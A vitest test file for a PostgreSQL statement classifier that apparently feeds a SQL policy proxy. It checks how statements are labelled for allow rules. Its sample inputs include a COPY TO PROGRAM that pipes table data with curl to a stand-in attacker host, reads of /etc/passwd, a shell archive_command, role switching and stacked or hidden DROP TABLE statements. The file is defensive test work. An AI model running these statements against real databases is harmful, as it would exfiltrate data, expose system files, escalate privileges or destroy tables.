import { beforeAll, describe, expect, it } from 'vitest';

import { classifyPostgres, loadSqlParser } from './postgres-classifier.js';
import { SQL_CLASSES } from './sql-class.js';
import type { SqlStatementFacts } from './sql-classification.js';

beforeAll(async () => {
  await loadSqlParser();
});

/** The facts of a text that must hold exactly one statement. */
function single(sql: string): SqlStatementFacts {
  const classification = classifyPostgres(sql);
  expect(classification.statements).toHaveLength(1);
  const [statement] = classification.statements;
  return statement!;
}

describe('classifyPostgres: the hard cases', () => {
  it('a DELETE inside a WITH query is a delete and a modifying CTE, writing the table (d is not a table)', () => {
    const facts = single('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d');
    expect(facts.classes).toEqual(['sql.dml.select', 'sql.dml.delete', 'sql.cte.modifying']);
    expect(facts.tablesWritten).toEqual(['t']);
    expect(facts.tablesRead).toEqual(['t']);
    expect(facts.hasWhere).toBe(false);
    expect(facts.modifiesData).toBe(true);
  });

  it('EXPLAIN ANALYZE runs the statement: explain and delete', () => {
    const facts = single('EXPLAIN ANALYZE DELETE FROM t');
    expect(facts.classes).toEqual(['sql.utility.explain', 'sql.dml.delete']);
    expect(facts.explainedClasses).toEqual(['sql.dml.delete']);
    expect(facts.tablesWritten).toEqual(['t']);
    expect(facts.hasWhere).toBe(false);
    expect(facts.modifiesData).toBe(true);
  });

  it('EXPLAIN ( ANALYSE ) in the option-list form and the British spelling also runs it', () => {
    expect(single('EXPLAIN (FORMAT JSON, ANALYSE) UPDATE t SET a = 1').classes).toEqual(['sql.utility.explain', 'sql.dml.update']);
  });

  it('EXPLAIN (ANALYZE false) is over-classified as running, never under-classified', () => {
    expect(single('EXPLAIN (ANALYZE false) DELETE FROM t').classes).toContain('sql.dml.delete');
  });

  it('plain EXPLAIN only plans: the inner class is information, its tables are read, nothing is written', () => {
    const facts = single('EXPLAIN DELETE FROM t WHERE a = 1');
    expect(facts.classes).toEqual(['sql.utility.explain']);
    expect(facts.explainedClasses).toEqual(['sql.dml.delete']);
    expect(facts.tablesRead).toEqual(['t']);
    expect(facts.tablesWritten).toEqual([]);
    expect(facts.hasWhere).toBeNull();
    expect(facts.modifiesData).toBe(false);
  });

  it('PREPARE carries the classes and tables of the prepared statement, and its name', () => {
    const facts = single('PREPARE p (int) AS DELETE FROM t WHERE a = $1');
    expect(facts.classes).toEqual(['sql.utility.prepare', 'sql.dml.delete']);
    expect(facts.tablesWritten).toEqual(['t']);
    expect(facts.hasWhere).toBe(true);
    expect(facts.preparedName).toBe('p');
    expect(facts.modifiesData).toBe(true);
  });

  it('EXECUTE is only execute: the content is unknown here, so it counts as modifying', () => {
    const facts = single('EXECUTE p (1, pg_read_file($x$/etc/passwd$x$))');
    expect(facts.classes).toEqual(['sql.utility.execute', 'sql.function.side-effects']);
    expect(facts.preparedName).toBe('p');
    expect(facts.functions).toEqual(['pg_read_file']);
    expect(facts.modifiesData).toBe(true);
  });

  it('EXPLAIN [ANALYZE] EXECUTE and CREATE TABLE AS EXECUTE name the prepared statement they plan or run', () => {
    expect(single('EXPLAIN ANALYZE EXECUTE p (1)')).toMatchObject({
      classes: ['sql.utility.explain', 'sql.utility.execute'],
      preparedName: 'p',
    });
    expect(single('EXPLAIN EXECUTE p')).toMatchObject({ classes: ['sql.utility.explain'], preparedName: 'p', modifiesData: false });
    expect(single('CREATE TABLE x AS EXECUTE p')).toMatchObject({
      classes: ['sql.ddl.create', 'sql.utility.execute'],
      preparedName: 'p',
      tablesWritten: ['x'],
    });
  });

  it('DEALLOCATE names the statement; DEALLOCATE ALL names none', () => {
    expect(single('DEALLOCATE p').preparedName).toBe('p');
    const all = single('DEALLOCATE ALL');
    expect(all.classes).toEqual(['sql.utility.deallocate']);
    expect(all.preparedName).toBeNull();
  });

  it('DO is its own class; the block is opaque', () => {
    const facts = single('DO $$ BEGIN EXECUTE $q$DROP TABLE customers$q$; END $$');
    expect(facts.classes).toEqual(['sql.utility.do']);
    expect(facts.tablesWritten).toEqual([]);
    expect(facts.modifiesData).toBe(true);
  });

  it('COPY … PROGRAM in either direction is copy.program', () => {
    const out = single("COPY t TO PROGRAM 'curl -d @- https://evil.example'");
    expect(out.classes).toEqual(['sql.copy.program', 'sql.copy.out']);
    expect(out.tablesRead).toEqual(['t']);
    expect(out.modifiesData).toBe(true);
    const into = single("COPY t FROM PROGRAM 'cat /etc/passwd'");
    expect(into.classes).toEqual(['sql.copy.program', 'sql.copy.in']);
    expect(into.tablesWritten).toEqual(['t']);
  });

  it('COPY to or from a server file is copy.file', () => {
    expect(single("COPY t TO '/tmp/f'").classes).toEqual(['sql.copy.file', 'sql.copy.out']);
    expect(single("COPY t FROM '/etc/passwd'").classes).toEqual(['sql.copy.file', 'sql.copy.in']);
  });

  it('COPY through the client connection is only in or out', () => {
    const out = single('COPY t (a, b) TO STDOUT WITH (FORMAT csv)');
    expect(out.classes).toEqual(['sql.copy.out']);
    expect(out.modifiesData).toBe(false);
    const into = single('COPY s.t FROM STDIN');
    expect(into.classes).toEqual(['sql.copy.in']);
    expect(into.tablesWritten).toEqual(['s.t']);
    expect(into.modifiesData).toBe(true);
  });

  it('COPY (DELETE … RETURNING *) TO STDOUT is copy.out and a delete', () => {
    const facts = single('COPY (DELETE FROM t RETURNING *) TO STDOUT');
    expect(facts.classes).toEqual(['sql.copy.out', 'sql.dml.delete']);
    expect(facts.tablesWritten).toEqual(['t']);
    expect(facts.modifiesData).toBe(true);
  });

  it('SELECT … INTO creates a table', () => {
    const facts = single('SELECT a INTO newtable FROM t');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.dml.select']);
    expect(facts.objectType).toBe('table');
    expect(facts.tablesWritten).toEqual(['newtable']);
    expect(facts.tablesRead).toEqual(['t']);
    expect(facts.modifiesData).toBe(true);
  });

  it('CREATE TABLE … AS SELECT creates a table and runs the select', () => {
    const facts = single('CREATE TABLE x AS SELECT * FROM y');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.dml.select']);
    expect(facts.objectType).toBe('table');
    expect(facts.tablesWritten).toEqual(['x']);
    expect(facts.tablesRead).toEqual(['y']);
  });

  it('CREATE MATERIALIZED VIEW is a create of a matview', () => {
    expect(single('CREATE MATERIALIZED VIEW mv AS SELECT 1').objectType).toBe('matview');
  });

  it.each([
    ['SET ROLE admin', 'role'],
    ['SET LOCAL ROLE admin', 'role'],
    ['SET SESSION AUTHORIZATION bob', 'session_authorization'],
    ['SET SESSION AUTHORIZATION DEFAULT', 'session_authorization'],
    ['RESET ROLE', 'role'],
    ['RESET SESSION AUTHORIZATION', 'session_authorization'],
    // GUC names are case-insensitive on the server: these change the role too.
    [`SET "ROLE" = 'admin'`, 'role'],
    [`SET "Session_Authorization" TO 'bob'`, 'session_authorization'],
  ])('%s is set-role and nothing else', (sql, setting) => {
    const facts = single(sql);
    expect(facts.classes).toEqual(['sql.utility.set-role']);
    expect(facts.setting).toBe(setting);
  });

  it.each([
    [`SET NAMES 'SJIS'`, 'client_encoding'],
    [`SET client_encoding = 'UTF8'`, 'client_encoding'],
    ['SET standard_conforming_strings = off', 'standard_conforming_strings'],
    ['RESET standard_conforming_strings', 'standard_conforming_strings'],
  ])('%s changes how the server reads SQL text: set-syntax, whatever the value', (sql, setting) => {
    const facts = single(sql);
    expect(facts.classes).toEqual(['sql.utility.set-syntax']);
    expect(facts.setting).toBe(setting);
  });

  it('ordinary SET, RESET and SHOW carry the parameter name', () => {
    expect(single('SET search_path = evil, public')).toMatchObject({
      classes: ['sql.utility.set'],
      setting: 'search_path',
      modifiesData: false,
    });
    expect(single('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE').classes).toEqual(['sql.utility.set']);
    expect(single('RESET statement_timeout')).toMatchObject({ classes: ['sql.utility.reset'], setting: 'statement_timeout' });
    expect(single('RESET ALL')).toMatchObject({ classes: ['sql.utility.reset'], setting: null });
    expect(single('SHOW search_path')).toMatchObject({ classes: ['sql.utility.show'], setting: 'search_path' });
    expect(single('SHOW ALL')).toMatchObject({ classes: ['sql.utility.show'], setting: null });
  });

  it('ALTER SYSTEM is alter-system and modifies', () => {
    const facts = single("ALTER SYSTEM SET archive_command = 'sh -c evil'");
    expect(facts.classes).toEqual(['sql.utility.alter-system']);
    expect(facts.setting).toBe('archive_command');
    expect(facts.modifiesData).toBe(true);
  });

  it('CALL is call, with the procedure and its arguments in functions', () => {
    const facts = single('CALL s.proc(1, g())');
    expect(facts.classes).toEqual(['sql.utility.call', 'sql.function.side-effects']);
    expect(facts.functions).toEqual(['s.proc', 'g']);
    expect(facts.modifiesData).toBe(true);
  });

  it('DECLARE … CURSOR FOR DELETE is not valid SQL (the grammar takes only a SELECT): unparseable', () => {
    const classification = classifyPostgres('DECLARE c CURSOR FOR DELETE FROM t');
    expect(classification.classes).toEqual(['sql.unparseable']);
    expect(classification.failure?.reason).toBe('syntax-error');
  });

  it('DECLARE … CURSOR FOR SELECT is cursor and select; FETCH, MOVE and CLOSE are cursor', () => {
    const facts = single('DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t FOR UPDATE');
    expect(facts.classes).toEqual(['sql.utility.cursor', 'sql.dml.select', 'sql.select.locking']);
    expect(facts.tablesRead).toEqual(['t']);
    for (const sql of ['FETCH 10 FROM c', 'MOVE c', 'CLOSE c', 'CLOSE ALL']) expect(single(sql).classes).toEqual(['sql.utility.cursor']);
  });

  it('CREATE RULE is a create of a rule; its actions add their classes (conservatively)', () => {
    const facts = single('CREATE RULE r AS ON INSERT TO t DO INSTEAD (DELETE FROM audit; NOTIFY ch)');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.dml.delete', 'sql.utility.notify']);
    expect(facts.objectType).toBe('rule');
    expect(facts.tablesWritten).toEqual(['t', 'audit']);
  });

  it('CREATE TRIGGER is a create of a trigger on the table; the trigger function is reported', () => {
    const facts = single('CREATE TRIGGER tr AFTER INSERT ON s.t FOR EACH ROW EXECUTE FUNCTION s.f()');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.function.side-effects']);
    expect(facts.objectType).toBe('trigger');
    expect(facts.tablesWritten).toEqual(['s.t']);
    expect(facts.functions).toEqual(['s.f']);
  });

  it('CREATE FUNCTION with a $$ body is a create of a function; the body is opaque', () => {
    const facts = single('CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql');
    expect(facts.classes).toEqual(['sql.ddl.create']);
    expect(facts.objectType).toBe('function');
    expect(facts.tablesWritten).toEqual([]);
  });

  it('CREATE FUNCTION with a BEGIN ATOMIC body reports the statements of the body', () => {
    const facts = single('CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM t; END');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.dml.delete']);
    expect(facts.objectType).toBe('procedure');
  });

  it('MERGE is merge plus the class of each action', () => {
    const facts = single(
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)',
    );
    expect(facts.classes).toEqual(['sql.dml.merge', 'sql.dml.delete', 'sql.dml.update', 'sql.dml.insert']);
    expect(facts.tablesWritten).toEqual(['t']);
    expect(facts.tablesRead).toEqual(['t', 's']);
    expect(single('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING').classes).toEqual(['sql.dml.merge']);
  });

  it('TRUNCATE writes every table named', () => {
    const facts = single('TRUNCATE a, s.b RESTART IDENTITY CASCADE');
    expect(facts.classes).toEqual(['sql.ddl.truncate']);
    expect(facts.tablesWritten).toEqual(['a', 's.b']);
    expect(facts.modifiesData).toBe(true);
  });

  it('DROP TABLE a, b writes both', () => {
    const facts = single('DROP TABLE a, s.b CASCADE');
    expect(facts.classes).toEqual(['sql.ddl.drop']);
    expect(facts.objectType).toBe('table');
    expect(facts.tablesWritten).toEqual(['a', 's.b']);
  });

  it('DROP of a non-relation names no table; DROP TRIGGER … ON t names t', () => {
    expect(single('DROP FUNCTION f(int)')).toMatchObject({ objectType: 'function', tablesWritten: [] });
    expect(single('DROP SCHEMA s CASCADE')).toMatchObject({ objectType: 'schema', tablesWritten: [] });
    expect(single('DROP TRIGGER tr ON s.t')).toMatchObject({ objectType: 'trigger', tablesWritten: ['s.t'] });
  });

  it('GRANT and REVOKE on tables name them; role grants are grants of a role', () => {
    expect(single('GRANT SELECT, UPDATE ON t, s.u TO bob')).toMatchObject({
      classes: ['sql.dcl.grant'],
      objectType: 'table',
      tablesWritten: ['t', 's.u'],
    });
    expect(single('REVOKE ALL ON t FROM bob').classes).toEqual(['sql.dcl.revoke']);
    expect(single('GRANT pg_read_server_files TO bob')).toMatchObject({ classes: ['sql.dcl.grant'], objectType: 'role' });
    expect(single('REVOKE admin FROM bob').classes).toEqual(['sql.dcl.revoke']);
    expect(single('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob').classes).toEqual(['sql.dcl.grant']);
    expect(single('GRANT USAGE ON SCHEMA s TO bob')).toMatchObject({ objectType: 'schema', tablesWritten: [] });
  });

  it('LOCK TABLE is lock, VACUUM/ANALYZE/CLUSTER/REINDEX/REFRESH/CHECKPOINT are maintenance', () => {
    expect(single('LOCK TABLE t IN ACCESS EXCLUSIVE MODE')).toMatchObject({ classes: ['sql.utility.lock'], tablesRead: ['t'] });
    expect(single('VACUUM FULL t')).toMatchObject({ classes: ['sql.utility.maintenance'], tablesWritten: ['t'] });
    for (const sql of ['ANALYZE t', 'CLUSTER t USING i', 'REINDEX TABLE t', 'REFRESH MATERIALIZED VIEW mv', 'CHECKPOINT']) {
      expect(single(sql).classes).toEqual(['sql.utility.maintenance']);
    }
  });

  it('LOAD is load and modifies', () => {
    expect(single("LOAD 'auto_explain'")).toMatchObject({ classes: ['sql.utility.load'], modifiesData: true });
  });

  it('SELECT pg_sleep(1) is a select calling pg_sleep', () => {
    expect(single('SELECT pg_sleep(1)')).toMatchObject({ classes: ['sql.dml.select'], functions: ['pg_sleep'], modifiesData: false });
  });

  it('SELECT * FROM dblink(…, DELETE …) is a select calling dblink: the remote text is a string', () => {
    const facts = single("SELECT * FROM dblink('host=other', 'DELETE FROM t') AS r(a int)");
    expect(facts.classes).toEqual(['sql.dml.select', 'sql.function.side-effects']);
    expect(facts.functions).toEqual(['dblink']);
    expect(facts.tablesWritten).toEqual([]);
    expect(facts.modifiesData).toBe(true);
  });

  it('a call to a function outside the read-only list is a class of its own; set_config() is every SET', () => {
    // An allow rule on sql.dml.select must not admit SELECT pg_terminate_backend(…), lo_export(…) or
    // a user function that writes (security review: "policy bypass through function calls").
    expect(single('SELECT lower(x) FROM t').classes).toEqual(['sql.dml.select']);
    expect(single('SELECT pg_terminate_backend(42)').classes).toEqual(['sql.dml.select', 'sql.function.side-effects']);
    expect(single('SELECT * FROM t WHERE my_schema.writes(t.id)').classes).toEqual(['sql.dml.select', 'sql.function.side-effects']);
    for (const sql of ["SELECT set_config('role', 'admin', false)", "SELECT pg_catalog.set_config(name, 'off', false) FROM names"]) {
      expect(single(sql).classes).toEqual([
        'sql.dml.select',
        'sql.utility.set',
        'sql.utility.set-role',
        'sql.utility.set-syntax',
        'sql.function.side-effects',
      ]);
    }
  });

  it('DECLARE, FETCH and CLOSE report the cursor name (CLOSE ALL none), so a proxy can track the portal name space', () => {
    expect(single('DECLARE "Cur" CURSOR WITH HOLD FOR SELECT 1').cursorName).toBe('Cur');
    expect(single('FETCH 10 FROM c2').cursorName).toBe('c2');
    expect(single('CLOSE c3').cursorName).toBe('c3');
    expect(single('CLOSE ALL').cursorName).toBeNull();
    expect(single('SELECT 1').cursorName).toBeNull();
  });

  it('dangerous functions are reported as written, qualified when qualified', () => {
    const facts = single("SELECT pg_catalog.pg_read_file('/etc/passwd'), lo_export(1, '/tmp/x'), nextval('s')");
    expect(facts.functions).toEqual(['pg_catalog.pg_read_file', 'lo_export', 'nextval']);
    expect(facts.modifiesData).toBe(true);
  });

  it('functions are found everywhere: WHERE, ORDER BY, subqueries, FILTER, window, TABLESAMPLE, defaults', () => {
    const facts = single(
      'SELECT count(*) FILTER (WHERE f1(a)) OVER (ORDER BY f2(b)) FROM t TABLESAMPLE bernoulli (f3()) WHERE a IN (SELECT f4(c) FROM u) ORDER BY f5(a)',
    );
    expect(facts.functions).toEqual(expect.arrayContaining(['count', 'f1', 'f2', 'f3', 'f4', 'f5', 'bernoulli']));
    expect(single('CREATE TABLE x (a int DEFAULT f(), CHECK (g(a)))').functions).toEqual(['f', 'g']);
  });

  it('SELECT 1; DROP TABLE customers is two statements, each with its own text', () => {
    const classification = classifyPostgres('SELECT 1; DROP TABLE customers');
    expect(classification.statements.map((statement) => statement.text)).toEqual(['SELECT 1', 'DROP TABLE customers']);
    expect(classification.statements.map((statement) => statement.classes)).toEqual([['sql.dml.select'], ['sql.ddl.drop']]);
    expect(classification.classes).toEqual(['sql.dml.select', 'sql.ddl.drop']);
    expect(classification.tablesWritten).toEqual(['customers']);
    expect(classification.modifiesData).toBe(true);
  });
});

describe('classifyPostgres: facts', () => {
  it('hasWhere is true only when every UPDATE/DELETE has one; WHERE true and WHERE CURRENT OF count', () => {
    expect(single('DELETE FROM t').hasWhere).toBe(false);
    expect(single('DELETE FROM t WHERE true').hasWhere).toBe(true);
    expect(single('UPDATE t SET a = 1 WHERE CURRENT OF c').hasWhere).toBe(true);
    expect(single('WITH d AS (DELETE FROM u WHERE id = 1) UPDATE t SET a = 1').hasWhere).toBe(false);
    expect(single('SELECT * FROM t WHERE a = 1').hasWhere).toBeNull();
    expect(single('INSERT INTO t VALUES (1)').hasWhere).toBeNull();
    expect(classifyPostgres('DELETE FROM a WHERE id = 1; DELETE FROM b').hasWhere).toBe(false);
    expect(classifyPostgres('SELECT 1; DELETE FROM b WHERE id = 1').hasWhere).toBe(true);
  });

  it('UPDATE/DELETE targets are read too (WHERE and RETURNING read their rows); INSERT only when it returns', () => {
    expect(single('UPDATE t SET a = u.a FROM u WHERE t.id = u.id')).toMatchObject({ tablesRead: ['t', 'u'], tablesWritten: ['t'] });
    expect(single('DELETE FROM t USING u WHERE t.id = u.id')).toMatchObject({ tablesRead: ['t', 'u'], tablesWritten: ['t'] });
    expect(single('INSERT INTO t SELECT * FROM u')).toMatchObject({ tablesRead: ['u'], tablesWritten: ['t'] });
    expect(single('INSERT INTO t VALUES (1) RETURNING *')).toMatchObject({ tablesRead: ['t'], tablesWritten: ['t'] });
  });

  it('INSERT … ON CONFLICT DO UPDATE is also an update; DO NOTHING is not', () => {
    expect(single('INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2').classes).toEqual(['sql.dml.insert', 'sql.dml.update']);
    expect(single('INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING').classes).toEqual(['sql.dml.insert']);
  });

  it('SELECT … FOR UPDATE / FOR SHARE, anywhere in the statement, is select.locking', () => {
    expect(single('SELECT * FROM t FOR UPDATE SKIP LOCKED').classes).toEqual(['sql.dml.select', 'sql.select.locking']);
    expect(single('SELECT * FROM (SELECT * FROM t FOR SHARE) x').classes).toEqual(['sql.dml.select', 'sql.select.locking']);
    expect(single('SELECT * FROM t').classes).toEqual(['sql.dml.select']);
  });

  it('transaction control maps every form', () => {
    const cases: [string, readonly string[]][] = [
      ['BEGIN', ['sql.tcl.begin']],
      ['START TRANSACTION READ ONLY', ['sql.tcl.begin']],
      ['COMMIT', ['sql.tcl.commit']],
      ['END', ['sql.tcl.commit']],
      ['ROLLBACK', ['sql.tcl.rollback']],
      ['ABORT', ['sql.tcl.rollback']],
      ['SAVEPOINT a', ['sql.tcl.savepoint']],
      ['RELEASE SAVEPOINT a', ['sql.tcl.release']],
      ['ROLLBACK TO SAVEPOINT a', ['sql.tcl.rollback']],
      ["PREPARE TRANSACTION 'x'", ['sql.tcl.prepare-transaction']],
      ["COMMIT PREPARED 'x'", ['sql.tcl.prepare-transaction', 'sql.tcl.commit']],
      ["ROLLBACK PREPARED 'x'", ['sql.tcl.prepare-transaction', 'sql.tcl.rollback']],
    ];
    for (const [sql, classes] of cases) expect(single(sql).classes, sql).toEqual(classes);
    expect(single('COMMIT').modifiesData).toBe(false);
  });

  it('session utilities', () => {
    const cases: [string, string][] = [
      ['LISTEN ch', 'sql.utility.listen'],
      ["NOTIFY ch, 'x'", 'sql.utility.notify'],
      ['UNLISTEN *', 'sql.utility.unlisten'],
      ['DISCARD ALL', 'sql.utility.discard'],
      ['SET CONSTRAINTS ALL DEFERRED', 'sql.utility.other'],
    ];
    for (const [sql, sqlClass] of cases) expect(single(sql).classes, sql).toEqual([sqlClass]);
  });

  it('DDL carries the object type and the relation it changes', () => {
    const cases: [string, string, string | null, readonly string[]][] = [
      ['CREATE TABLE s.t (a int)', 'sql.ddl.create', 'table', ['s.t']],
      ['CREATE INDEX i ON t (a)', 'sql.ddl.create', 'index', ['t']],
      ['CREATE VIEW v AS SELECT * FROM secrets', 'sql.ddl.create', 'view', ['v']],
      ['CREATE SEQUENCE sq', 'sql.ddl.create', 'sequence', ['sq']],
      ['CREATE POLICY p ON t USING (true)', 'sql.ddl.create', 'policy', ['t']],
      ['CREATE EXTENSION dblink', 'sql.ddl.create', 'extension', []],
      ['CREATE ROLE r SUPERUSER', 'sql.ddl.create', 'role', []],
      ['ALTER ROLE r WITH SUPERUSER', 'sql.ddl.alter', 'role', []],
      ['ALTER ROLE r SET search_path = x', 'sql.ddl.alter', 'role', []],
      ['DROP ROLE r', 'sql.ddl.drop', 'role', []],
      ['ALTER TABLE t ADD COLUMN c int', 'sql.ddl.alter', 'table', ['t']],
      ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', 'sql.ddl.alter', 'table', ['t']],
      ['ALTER TABLE s.t RENAME TO u', 'sql.ddl.rename', 'table', ['s.t', 's.u']],
      ['ALTER TABLE t RENAME COLUMN a TO b', 'sql.ddl.rename', 'column', ['t']],
      ['ALTER TABLE t OWNER TO r', 'sql.ddl.alter', 'table', ['t']],
      ['ALTER TABLE t SET SCHEMA s', 'sql.ddl.alter', 'table', ['t']],
      ['ALTER FUNCTION f() OWNER TO r', 'sql.ddl.alter', 'function', []],
      ['ALTER FUNCTION f() SECURITY DEFINER', 'sql.ddl.alter', 'function', []],
      ["COMMENT ON TABLE t IS 'x'", 'sql.ddl.comment', 'table', ['t']],
      ["COMMENT ON COLUMN s.t.c IS 'x'", 'sql.ddl.comment', 'column', ['s.t']],
      ['CREATE DATABASE d', 'sql.ddl.create', 'database', []],
      ['DROP DATABASE d', 'sql.ddl.drop', 'database', []],
      ['CREATE SCHEMA s', 'sql.ddl.create', 'schema', []],
      ["CREATE TYPE mood AS ENUM ('a')", 'sql.ddl.create', 'type', []],
      ['CREATE TYPE pair AS (a int, b int)', 'sql.ddl.create', 'type', []],
      ['CREATE AGGREGATE agg (int) (SFUNC = f, STYPE = int)', 'sql.ddl.create', 'aggregate', []],
      ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', 'sql.ddl.create', 'event-trigger', []],
      ['CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw', 'sql.ddl.create', 'foreign-server', []],
      ['CREATE FOREIGN TABLE ft (a int) SERVER srv', 'sql.ddl.create', 'foreign-table', ['ft']],
      ["CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", 'sql.ddl.create', 'subscription', []],
      ['DROP OWNED BY r', 'sql.ddl.drop', null, []],
    ];
    for (const [sql, sqlClass, objectType, written] of cases) {
      const facts = single(sql);
      expect(facts.classes[0], sql).toBe(sqlClass);
      expect(facts.objectType, sql).toBe(objectType);
      expect(facts.tablesWritten, sql).toEqual(written);
      expect(facts.modifiesData, sql).toBe(true);
    }
  });

  it('objects created inside CREATE SCHEMA are in that schema; its GRANT adds grant', () => {
    const facts = single('CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t GRANT SELECT ON t TO bob');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.dcl.grant']);
    expect(facts.objectType).toBe('schema');
    expect(facts.tablesWritten).toEqual(expect.arrayContaining(['s.t', 's.v']));
  });

  it('a statement kind not mapped (PL/pgSQL-only RETURN) is unknown', () => {
    // RETURN is only valid inside a SQL-standard function body; inside one it is walked as a nested statement.
    const facts = single('CREATE FUNCTION f() RETURNS int RETURN 1');
    expect(facts.classes).toEqual(['sql.ddl.create', 'sql.unknown']);
    expect(facts.modifiesData).toBe(true);
  });

  it('every class the classifier emits is in the published vocabulary', () => {
    const texts = [
      'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d FOR UPDATE',
      'EXPLAIN ANALYZE MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
      "COPY t TO PROGRAM 'x'; SET ROLE r; SET NAMES 'UTF8'; DO 'x'; CALL p(); LOAD 'l'; VACUUM; LOCK t; DISCARD ALL",
      'CREATE FUNCTION f() RETURNS int RETURN 1',
    ];
    for (const text of texts) for (const sqlClass of classifyPostgres(text).classes) expect(SQL_CLASSES).toContain(sqlClass);
  });
});
